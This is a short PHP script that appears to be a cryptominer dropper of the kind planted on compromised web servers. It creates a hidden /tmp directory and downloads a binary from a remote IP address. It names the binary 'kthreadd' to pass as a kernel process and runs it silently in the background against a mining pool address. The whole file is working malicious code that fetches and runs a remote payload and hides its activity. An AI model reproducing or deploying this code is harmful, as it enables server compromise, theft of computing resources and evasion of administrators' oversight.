<?php
$dir = '/tmp/.cache-' . substr(md5(__FILE__), 0, 4);
@mkdir($dir);
$bin = $dir . '/kthreadd';
file_put_contents($bin, file_get_contents('http://203.0.113.9/x'));
chmod($bin, 0755);
exec('cd ' . $dir . ' && nohup ./kthreadd -o pool.example:443 >/dev/null 2>&1 &');
